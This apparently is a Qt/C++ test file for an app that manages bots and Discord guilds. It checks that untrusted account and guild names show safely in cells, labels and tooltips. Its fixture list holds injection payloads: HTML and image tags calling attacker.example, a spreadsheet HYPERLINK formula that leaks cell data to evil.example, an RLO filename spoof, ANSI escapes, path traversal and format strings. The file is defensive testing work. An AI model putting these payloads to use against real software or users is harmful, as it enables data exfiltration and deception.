// Issue 14 and issue 13 ("awkward but legal data is shown faithfully and
// safely"): the one display-text function (models/text/DisplayText), the
// plain-text widget helpers (views/widgets/UntrustedText) and the cells of
// the bot, guild and triage models, against the names the skew sandbox
// serves (tests/sandbox/lib/skew.mjs, AWKWARD_NAMES) and a few more.
//
// Every check here fails on the code before issue 14: names reached the
// cells and labels raw, tooltips were AutoText, and a name's direction was
// the interface's.

#include "models/bots/BotRoles.h"
#include "models/bots/BotStore.h"
#include "models/bots/BotTableModel.h"
#include "models/discord/DiscordGuildListModel.h"
#include "models/text/DisplayText.h"
#include "models/triage/TriageLog.h"
#include "models/triage/TriageLogModel.h"
#include "views/widgets/IsolatingItemDelegate.h"
#include "views/widgets/UntrustedText.h"

#include <QAbstractItemModelTester>
#include <QApplication>
#include <QDate>
#include <QLocale>
#include <QLabel>
#include <QMessageBox>
#include <QStyleOptionViewItem>
#include <QTemporaryDir>
#include <QTest>
#include <QTextDocument>
#include <QTextLayout>

namespace {

const QString kLong = QLatin1Char('L') + QString(9998, QLatin1Char('o')) + QLatin1Char('g');

// The skew sandbox's AWKWARD_NAMES, in its order.
QStringList awkwardNames()
{
    return {
        QStringLiteral("<b>Guild</b>"),
        QString(),
        QStringLiteral("Test</b><br><font color=green>(sandbox bot only)</font>"),
        QStringLiteral("stream\u202Egnp.exe"),
        QStringLiteral("\u0001soh_start"),
        QStringLiteral("<img src=\"//attacker.example/share/a.png\">"),
        QStringLiteral("=HYPERLINK(\"https://evil.example/?\"&B2,\"x\")"),
        kLong,
        QStringLiteral("[click](https://evil.example)"),
        QStringLiteral("\u001b[31mRedAlert\u001b[0m"),
        QStringLiteral("\u2066isolate\u2069 \u2067rtl\u2069 \u2068first-strong\u2069 end"),
        QStringLiteral("../../etc/passwd"),
        QStringLiteral("%s%s%n"),
        QStringLiteral("Bell\u0007Streams"),
        QString(QStringLiteral("nul")) + QChar(0) + QStringLiteral("byte"),
        QStringLiteral("+1"),
        QStringLiteral("-2"),
        QStringLiteral("@SUM(A1)"),
        QStringLiteral("![x](https://evil.example/p.png)"),
        QStringLiteral("<@everyone>"),
        QStringLiteral("*bold* _it_ | pipe"),
    };
}

bool hasInvisibleOrReordering(const QString &text, bool allowOwnIsolates)
{
    for (qsizetype i = 0; i < text.size(); ++i) {
        const char16_t u = text.at(i).unicode();
        if (u < 0x20 || (u >= 0x7F && u <= 0x9F))
            return true;
        if ((u >= 0x202A && u <= 0x202E) || u == 0x2066 || u == 0x2067 || u == 0x200E || u == 0x200F
            || u == 0x061C)
            return true;
        if ((u == 0x2068 || u == 0x2069) && !allowOwnIsolates)
            return true;
        if (QChar::isLowSurrogate(u))
            return true;
        if (QChar::isHighSurrogate(u)) {
            if (i + 1 >= text.size() || !text.at(i + 1).isLowSurrogate())
                return true;
            ++i;
        }
    }
    return false;
}

// Where each character of text ends up, laid out in a paragraph of the
// given direction: the x of the cursor before it.
QList<qreal> visualX(const QString &text, Qt::LayoutDirection direction)
{
    QTextLayout layout(text, QApplication::font());
    QTextOption option;
    option.setTextDirection(direction);
    layout.setTextOption(option);
    layout.beginLayout();
    QTextLine line = layout.createLine();
    line.setLineWidth(2000);
    layout.endLayout();
    QList<qreal> xs;
    for (int i = 0; i < text.size(); ++i)
        xs.append(line.cursorToX(i));
    return xs;
}

// Reads a tooltip the way QToolTip does: rich text when Qt thinks it might
// be, else plain.
QString asQtShowsIt(const QString &tip)
{
    if (!Qt::mightBeRichText(tip))
        return tip;
    QTextDocument doc;
    doc.setHtml(tip);
    return doc.toPlainText();
}

BotStatusEntry bot(int n, const QString &name)
{
    BotStatusEntry e;
    e.accountId = QStringLiteral("00000000-0000-4000-8000-%1").arg(n, 12, 10, QLatin1Char('0'));
    e.accountName = name;
    e.platform = Platform::Twitch;
    e.status = BotStatus::Active;
    e.lastHeartbeatAt = 1'700'000'000'000;
    e.updatedAt = 1;
    return e;
}

} // namespace

class TestUntrustedText final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void visible_ordinaryTextIsReturnedWithoutACopy();
    void visible_controlsAndOverridesBecomeMarks_data();
    void visible_controlsAndOverridesBecomeMarks();
    void visible_everyAwkwardNameIsSafeAndBounded();
    void visible_cutsNeverSplitASurrogatePair();
    void message_keepsLineBreaksAndOwnIsolates();
    void isolated_andNameOrId();
    void isolated_keepsANameInItsOwnDirectionInRightToLeft_data();
    void isolated_keepsANameInItsOwnDirectionInRightToLeft();
    void toolTip_isRichTextThatShowsTheTextAsItIs_data();
    void toolTip_isRichTextThatShowsTheTextAsItIs();
    void labelHelpers_arePlainText();
    void labelHelpers_elidedLabelNeverWidensTheWindow();
    void messageBox_makePlainCoversTheInformativeText();
    void isolatingDelegate_wrapsTheCellOnce();
    void botTable_cellsOfAwkwardNames();
    void guildList_cellsAndToolTipsOfAwkwardNames();
    void triageLog_cellsAndToolTipsOfAwkwardNames();
};

void TestUntrustedText::visible_ordinaryTextIsReturnedWithoutACopy()
{
    // The table asks for every painted cell: ordinary names cost nothing.
    const QString name = QStringLiteral("acme_live Zoë مرحبا 😀");
    const QString shown = DisplayText::visible(name);
    QCOMPARE(shown, name);
    QVERIFY(shown.constData() == name.constData()); // shared, not copied
    QVERIFY(DisplayText::isOrdinary(name));
    QVERIFY(!DisplayText::isOrdinary(QStringLiteral("a\u202Eb")));
    QVERIFY(!DisplayText::isOrdinary(kLong));
}

void TestUntrustedText::visible_controlsAndOverridesBecomeMarks_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("shown");
    QTest::newRow("RLO") << QStringLiteral("stream\u202Egnp.exe")
                         << QStringLiteral("stream<U+202E>gnp.exe");
    QTest::newRow("SOH") << QStringLiteral("\u0001soh_start") << QStringLiteral("<U+0001>soh_start");
    QTest::newRow("NUL") << (QStringLiteral("nul") + QChar(0) + QStringLiteral("byte"))
                         << QStringLiteral("nul<U+0000>byte");
    QTest::newRow("BEL") << QStringLiteral("Bell\u0007Streams")
                         << QStringLiteral("Bell<U+0007>Streams");
    QTest::newRow("ANSI") << QStringLiteral("\u001b[31mRedAlert\u001b[0m")
                          << QStringLiteral("<U+001B>[31mRedAlert<U+001B>[0m");
    QTest::newRow("LF") << QStringLiteral("a\nb") << QStringLiteral("a<U+000A>b");
    QTest::newRow("DEL") << QStringLiteral("a\u007Fb") << QStringLiteral("a<U+007F>b");
    QTest::newRow("C1 NEL") << QStringLiteral("a\u0085b") << QStringLiteral("a<U+0085>b");
    QTest::newRow("isolates") << QStringLiteral(
        "\u2066isolate\u2069 \u2067rtl\u2069 \u2068first-strong\u2069 end")
                              << QStringLiteral("<U+2066>isolate<U+2069> <U+2067>rtl<U+2069> "
                                                "<U+2068>first-strong<U+2069> end");
    QTest::newRow("marks") << QStringLiteral("a\u200Fb\u200Ec\u061C")
                           << QStringLiteral("a<U+200F>b<U+200E>c<U+061C>");
    QTest::newRow("line separator") << QStringLiteral("a\u2028b") << QStringLiteral("a<U+2028>b");
    QTest::newRow("lone high surrogate")
        << (QStringLiteral("a") + QChar(0xD83D) + QStringLiteral("b"))
        << QStringLiteral("a\uFFFDb");
    QTest::newRow("lone low surrogate")
        << (QStringLiteral("a") + QChar(0xDE00)) << QStringLiteral("a\uFFFD");
    QTest::newRow("pair kept") << QStringLiteral("a😀b") << QStringLiteral("a😀b");
}

void TestUntrustedText::visible_controlsAndOverridesBecomeMarks()
{
    QFETCH(QString, text);
    QFETCH(QString, shown);
    QCOMPARE(DisplayText::visible(text), shown);
}

void TestUntrustedText::visible_everyAwkwardNameIsSafeAndBounded()
{
    for (const QString &name : awkwardNames()) {
        for (const qsizetype max :
             {DisplayText::kCellChars, DisplayText::kNameChars, qsizetype(10)}) {
            const QString shown = DisplayText::visible(name, max);
            QVERIFY2(shown.size() <= max, qPrintable(QString::number(shown.size())));
            QVERIFY2(!hasInvisibleOrReordering(shown, false), qPrintable(shown));
            if (name.size() > max)
                QVERIFY(shown.endsWith(DisplayText::kEllipsis));
        }
    }
    // The 10,000-character name: a cell gets at most kCellChars of it.
    const QString cell = DisplayText::visible(kLong);
    QCOMPARE(cell.size(), DisplayText::kCellChars);
    QVERIFY(cell.startsWith(QLatin1String("Looo")));
    QVERIFY(cell.endsWith(DisplayText::kEllipsis));
}

void TestUntrustedText::visible_cutsNeverSplitASurrogatePair()
{
    const QString emoji = QString(40, QLatin1Char('x')) + QStringLiteral("😀😀😀😀😀😀");
    for (qsizetype max = 38; max < 52; ++max) {
        const QString shown = DisplayText::visible(emoji, max);
        QVERIFY(shown.size() <= max);
        QVERIFY2(!hasInvisibleOrReordering(shown, false), qPrintable(QString::number(max)));
    }
    // A mark is never cut in half either.
    const QString marks = QString(8, QLatin1Char('x')) + QString(4, QChar(0x202E));
    for (qsizetype max = 8; max < 20; ++max) {
        const QString shown = DisplayText::visible(marks, max);
        QVERIFY(shown.size() <= max);
        QVERIFY2(shown.count(QLatin1Char('<')) == shown.count(QLatin1Char('>')), qPrintable(shown));
    }
}

void TestUntrustedText::message_keepsLineBreaksAndOwnIsolates()
{
    const QString name = DisplayText::isolated(QStringLiteral("stream\u202Egnp.exe"));
    const QString sentence =
        QStringLiteral("Could not pause %1:\r\nserver said \u202Eno").arg(name);
    const QString shown = DisplayText::message(sentence);
    QCOMPARE(shown,
             QStringLiteral("Could not pause \u2068stream<U+202E>gnp.exe\u2069:\nserver said "
                            "<U+202E>no"));
    QVERIFY(!hasInvisibleOrReordering(QString(shown).remove(QLatin1Char('\n')), true));
    // FSI and PDI of the server's own are shown unless they form a pair as
    // isolated() writes them (which isolates, and hides nothing else): a lone
    // PDI cannot close our isolate early, a lone FSI not swallow the rest.
    QCOMPARE(DisplayText::message(QStringLiteral("Could not pause %1: server said \u2069oops "
                                                 "\u2068 \u2068a\u2067b\u2069")
                                      .arg(DisplayText::isolated(QStringLiteral("x")))),
             QStringLiteral("Could not pause \u2068x\u2069: server said <U+2069>oops <U+2068> "
                            "<U+2068>a<U+2067>b<U+2069>"));
    // The marks QLocale writes into an Arabic date are ours: they stay.
    const QString date = QLocale(QLocale::Arabic, QLocale::Egypt)
                             .toString(QDate(2025, 6, 25), QLocale::ShortFormat);
    QVERIFY(date.contains(QChar(0x200F)));
    QCOMPARE(DisplayText::message(QStringLiteral("connected %1").arg(date)),
             QStringLiteral("connected %1").arg(date));
}

void TestUntrustedText::isolated_andNameOrId()
{
    QCOMPARE(DisplayText::isolated(QStringLiteral("acme")), QStringLiteral("\u2068acme\u2069"));
    QCOMPARE(DisplayText::nameOrId(QString(), QStringLiteral("9F1C-ID")),
             QStringLiteral("\u20689F1C-ID\u2069"));
    QCOMPARE(DisplayText::nameOrId(QStringLiteral("  \t"), QStringLiteral("id")),
             QStringLiteral("\u2068id\u2069"));
    QCOMPARE(DisplayText::nameOrId(QStringLiteral("Zoë"), QStringLiteral("id")),
             QStringLiteral("\u2068Zoë\u2069"));
    QVERIFY(DisplayText::isolated(kLong).size() <= DisplayText::kNameChars);
}

void TestUntrustedText::isolated_keepsANameInItsOwnDirectionInRightToLeft_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("first"); // left of "second" when read as the name's own direction
    QTest::addColumn<QString>("second");
    // Both seen in the Arabic interface before issue 14: "etc/passwd/../.."
    // and "s%s%n%".
    QTest::newRow("path") << QStringLiteral("../../etc/passwd") << QStringLiteral("../")
                          << QStringLiteral("passwd");
    QTest::newRow("format") << QStringLiteral("%s%s%n") << QStringLiteral("%s%s")
                            << QStringLiteral("%n");
}

void TestUntrustedText::isolated_keepsANameInItsOwnDirectionInRightToLeft()
{
    QFETCH(QString, name);
    QFETCH(QString, first);
    QFETCH(QString, second);
    // A sentence of the Arabic interface with the name in it.
    const QString prefix = QStringLiteral("إيقاف ");
    const auto order = [&](const QString &inserted) {
        const QString text = prefix + inserted + QStringLiteral(" ؟");
        const QList<qreal> xs = visualX(text, Qt::RightToLeft);
        const qsizetype a = text.indexOf(first);
        const qsizetype b = text.indexOf(second, a + 1);
        // One character in: the cursor before a run's first character sits
        // on the run boundary, which belongs to the surrounding direction.
        return xs.at(int(a) + 1) < xs.at(int(b) + 1); // true: first is left of second, as in LTR
    };
    // Raw, the right-to-left paragraph reorders the neutral characters...
    QVERIFY2(!order(name), "the raw name was not reordered: the check proves nothing");
    // ...isolated, the name reads as it is.
    QVERIFY(order(DisplayText::isolated(name)));
}

void TestUntrustedText::toolTip_isRichTextThatShowsTheTextAsItIs_data()
{
    QTest::addColumn<QString>("text");
    for (const QString &name : awkwardNames()) {
        if (!name.isEmpty() && name.size() < 200)
            QTest::addRow("%s", qPrintable(DisplayText::visible(name, 30))) << name;
    }
    QTest::newRow("two lines") << QStringLiteral("Account <b>x</b>\nsecond   line");
}

void TestUntrustedText::toolTip_isRichTextThatShowsTheTextAsItIs()
{
    QFETCH(QString, text);
    // Before: the raw text, which Qt renders as HTML when it "might be".
    const QString tip = DisplayText::toolTip(text);
    QVERIFY(Qt::mightBeRichText(tip)); // the entities are decoded, not shown
    QVERIFY(!tip.contains(QLatin1String("<b>")) || text.contains(QLatin1String("&lt;b&gt;")));
    QVERIFY(!tip.contains(QLatin1String("<img")));
    QVERIFY(!tip.contains(QLatin1String("<font")));
    // What the operator reads is the text itself (controls as marks).
    QCOMPARE(asQtShowsIt(tip), DisplayText::message(text, DisplayText::kToolTipChars));
    QVERIFY(DisplayText::toolTip(QString()).isEmpty());
    // Bounded: a tooltip never carries 10,000 characters.
    QVERIFY(asQtShowsIt(DisplayText::toolTip(kLong)).size() <= DisplayText::kToolTipChars);
}

void TestUntrustedText::labelHelpers_arePlainText()
{
    QWidget parent;
    QLabel *label = UntrustedText::label(&parent, QStringLiteral("<b>Guild</b>"));
    QCOMPARE(label->textFormat(), Qt::PlainText);
    QCOMPARE(label->text(), QStringLiteral("<b>Guild</b>"));
    QLabel other(&parent); // AutoText, as Qt makes it
    UntrustedText::setText(&other, QStringLiteral("<img src=\"//attacker.example/share/a.png\">"));
    QCOMPARE(other.textFormat(), Qt::PlainText);
    UntrustedText::setText(&other, QStringLiteral("Bell\u0007Streams"));
    QCOMPARE(other.text(), QStringLiteral("Bell<U+0007>Streams"));
    UntrustedText::setToolTip(&other, QStringLiteral("<b>Guild</b>"));
    QCOMPARE(asQtShowsIt(other.toolTip()), QStringLiteral("<b>Guild</b>"));
}

void TestUntrustedText::labelHelpers_elidedLabelNeverWidensTheWindow()
{
    QWidget window;
    auto *label = new QLabel(&window);
    UntrustedText::setElided(label);
    UntrustedText::setText(label, kLong);
    window.resize(400, 60);
    window.show();
    QVERIFY(QTest::qWaitForWindowExposed(&window));
    label->resize(300, 30);
    QVERIFY(label->minimumSizeHint().width() < 300);
    QVERIFY(label->sizeHint().width() < 2000);
    QVERIFY(label->text().endsWith(QChar(0x2026)));
    QVERIFY(label->fontMetrics().horizontalAdvance(label->text()) <= 300);
    QVERIFY(UntrustedText::fullText(label).size() >= DisplayText::kMessageChars - 1);
    QVERIFY(!label->toolTip().isEmpty());
    label->resize(3000, 30);
    QVERIFY(label->text().size() > 200);
}

void TestUntrustedText::messageBox_makePlainCoversTheInformativeText()
{
    QMessageBox box(
        QMessageBox::Question, QStringLiteral("Confirm"),
        QStringLiteral("Pause Test</b><br><font color=green>(sandbox bot only)</font>?"),
        QMessageBox::Ok | QMessageBox::Cancel);
    box.setInformativeText(QStringLiteral("<b>Guild</b> on Twitch"));
    UntrustedText::makePlain(&box);
    int labels = 0;
    for (const QLabel *l : box.findChildren<QLabel *>()) {
        if (l->text().isEmpty())
            continue;
        ++labels;
        QCOMPARE(l->textFormat(), Qt::PlainText);
    }
    QCOMPARE(labels, 2);
    QCOMPARE(box.textFormat(), Qt::PlainText);
}

void TestUntrustedText::isolatingDelegate_wrapsTheCellOnce()
{
    QStyleOptionViewItem option;
    option.text = QStringLiteral("../../etc/passwd");
    IsolatingItemDelegate::isolateText(&option);
    QCOMPARE(option.text, QStringLiteral("\u2068../../etc/passwd\u2069"));
    IsolatingItemDelegate::isolateText(&option);
    QCOMPARE(option.text, QStringLiteral("\u2068../../etc/passwd\u2069"));
    option.text.clear();
    IsolatingItemDelegate::isolateText(&option);
    QVERIFY(option.text.isEmpty());
}

void TestUntrustedText::botTable_cellsOfAwkwardNames()
{
    BotStore store;
    QList<BotStatusEntry> page;
    const QStringList names = awkwardNames();
    for (int i = 0; i < names.size(); ++i)
        page.append(bot(i + 1, names.at(i)));
    store.mergeSnapshot(page);
    store.flush();
    BotTableModel model(&store);
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    QCOMPARE(model.rowCount(), names.size());
    for (int r = 0; r < model.rowCount(); ++r) {
        const QModelIndex name = model.index(r, BotTable::AccountNameColumn);
        const QString raw = name.data(BotTable::AccountNameRole).toString();
        const QString id = name.data(BotTable::AccountIdRole).toString();
        const QString shown = name.data(Qt::DisplayRole).toString();
        // Faithful: the raw value stays for copying and actions.
        QVERIFY(names.contains(raw));
        // Safe: nothing invisible or reordering, bounded, the ID for no name.
        QVERIFY2(!hasInvisibleOrReordering(shown, false), qPrintable(shown));
        QVERIFY(shown.size() <= DisplayText::kCellChars);
        if (raw.isEmpty())
            QCOMPARE(shown, id);
        else
            QCOMPARE(shown, DisplayText::visible(raw));
        // Odd or long names get a tooltip with the name, bounded and escaped.
        const QString tip = name.data(Qt::ToolTipRole).toString();
        if (raw == kLong || raw.contains(QChar(0x202E))) {
            QVERIFY(!tip.isEmpty());
            QVERIFY(asQtShowsIt(tip).size() <= DisplayText::kToolTipChars);
        }
        QVERIFY(!tip.contains(QLatin1String("<b>Guild")));
    }
}

void TestUntrustedText::guildList_cellsAndToolTipsOfAwkwardNames()
{
    DiscordGuildListModel model;
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    QList<DiscordGuild> guilds;
    const QStringList names = awkwardNames();
    for (int i = 0; i < names.size(); ++i) {
        DiscordGuild g;
        g.guildId = QString::number(100000000000000000LL + i);
        g.name = names.at(i);
        g.accountId = QStringLiteral("00000000-0000-4000-8000-%1").arg(i, 12, 10, QLatin1Char('0'));
        g.accountName = names.at(names.size() - 1 - i);
        g.available = i % 2 == 0;
        guilds.append(g);
    }
    model.setGuilds(guilds);
    QCOMPARE(model.rowCount(), names.size());
    for (int r = 0; r < model.rowCount(); ++r) {
        for (const DiscordGuildColumn c : {DiscordGuildColumn::Name, DiscordGuildColumn::Account}) {
            const QModelIndex index = model.index(r, int(c));
            const QString shown = index.data(Qt::DisplayRole).toString();
            QVERIFY2(!shown.isEmpty(), "a guild or account without a name shows its ID");
            QVERIFY2(!hasInvisibleOrReordering(shown, false), qPrintable(shown));
            QVERIFY(shown.size() <= DisplayText::kCellChars);
            const QString tip = index.data(Qt::ToolTipRole).toString();
            QVERIFY(Qt::mightBeRichText(tip));
            QVERIFY2(!tip.contains(QLatin1String("<b>Guild"))
                         && !tip.contains(QLatin1String("<img"))
                         && !tip.contains(QLatin1String("<font")),
                     qPrintable(tip));
            QVERIFY(asQtShowsIt(tip).size() <= DisplayText::kToolTipChars);
        }
    }
}

void TestUntrustedText::triageLog_cellsAndToolTipsOfAwkwardNames()
{
    // The log keeps names and server messages as they came (the export
    // writes them); its cells show them as DisplayText does.
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    TriageLog log;
    QVERIFY2(log.open(dir.filePath(QStringLiteral("triage.sqlite"))), qPrintable(log.errorString()));
    const QStringList names = awkwardNames();
    for (int i = 0; i < names.size(); ++i) {
        TriageEntry e;
        e.kind = QStringLiteral("discord");
        e.accountId = QStringLiteral("00000000-0000-4000-8000-%1").arg(i, 12, 10, QLatin1Char('0'));
        e.accountName = names.at(i);
        e.guildId = QString::number(100000000000000000LL + i);
        e.detail = names.at(names.size() - 1 - i); // the guild's name
        e.action = TriageAction::guildDisconnected();
        e.origin = TriageOrigin::single();
        e.result = TriageEntry::Result::Failed;
        e.serverMessage = QStringLiteral("Forbidden: ") + names.at((i + 5) % names.size());
        QVERIFY(log.append(e) > 0);
    }
    TriageLogModel model(&log);
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    QCOMPARE(model.rowCount(), names.size());
    int emptyNames = 0;
    for (int r = 0; r < model.rowCount(); ++r) {
        const TriageEntry e = model.entryAt(r);
        QVERIFY(names.contains(e.accountName)); // faithful: stored as it came
        for (int c = 0; c < model.columnCount(); ++c) {
            const QModelIndex index = model.index(r, c);
            const QString shown = index.data(Qt::DisplayRole).toString();
            QVERIFY2(!hasInvisibleOrReordering(shown, false), qPrintable(shown));
            QVERIFY(shown.size() <= DisplayText::kCellChars);
            const QString tip = index.data(Qt::ToolTipRole).toString();
            QVERIFY2(!tip.contains(QLatin1String("<b>Guild")) && !tip.contains(QLatin1String("<img"))
                         && !tip.contains(QLatin1String("<font")),
                     qPrintable(tip));
            QVERIFY(asQtShowsIt(tip).size() <= DisplayText::kToolTipChars);
        }
        const QString account =
            model.index(r, TriageLogModel::AccountColumn).data(Qt::DisplayRole).toString();
        if (e.accountName.isEmpty()) {
            QCOMPARE(account, e.accountId);
            ++emptyNames;
        } else {
            QCOMPARE(account, DisplayText::visible(e.accountName));
        }
        // The message's tooltip is the whole message, as Qt shows it.
        const QString messageTip =
            model.index(r, TriageLogModel::MessageColumn).data(Qt::ToolTipRole).toString();
        QCOMPARE(asQtShowsIt(messageTip),
                 DisplayText::message(e.serverMessage, DisplayText::kToolTipChars));
        QVERIFY2(!hasInvisibleOrReordering(asQtShowsIt(messageTip), true),
                 qPrintable(asQtShowsIt(messageTip)));
    }
    QCOMPARE(emptyNames, 1);
}

QTEST_MAIN(TestUntrustedText)
#include "TestUntrustedText.moc"
